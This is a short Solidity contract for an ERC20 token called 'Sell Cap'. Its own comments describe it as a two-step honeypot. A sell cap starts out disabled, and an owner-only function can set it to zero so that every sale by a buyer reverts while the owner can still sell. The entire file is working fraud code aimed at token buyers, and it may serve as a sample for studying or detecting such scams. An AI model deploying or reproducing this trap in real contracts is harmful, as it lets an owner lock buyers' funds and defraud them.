// SPDX-License-Identifier: MIT
pragma solidity 0.8.28;

import {ERC20, Ownable, IDexRouter, IDexFactory} from "./Base.sol";

/// @title Two-step honeypot by a size: a sell may move at most
/// maxSellPermille thousandths of the seller's balance; the owner sets it
/// with tuneSellLimit(uint256), and tuneSellLimit(0) makes every sell of
/// any size revert. Today it is 1000 (no limit).
contract SellCapToken is ERC20, Ownable {
    address public immutable pair;
    uint256 public maxSellPermille = 1000;

    constructor(address router, uint256 supply) ERC20("Sell Cap", "SCAP") Ownable(msg.sender) {
        IDexRouter r = IDexRouter(router);
        pair = IDexFactory(r.factory()).createPair(address(this), r.WETH());
        _mint(msg.sender, supply);
    }

    function tuneSellLimit(uint256 permille) external onlyOwner {
        maxSellPermille = permille;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (to == pair && from != owner()) {
            uint256 cap = maxSellPermille;
            uint256 held = balanceOf(from);
            bool over;
            assembly {
                // value * 1000 > held * cap, without overflow for sane sizes
                over := gt(mul(value, 1000), mul(held, cap))
            }
            require(!over, "Sell: over limit");
        }
        _move(from, to, value);
    }
}
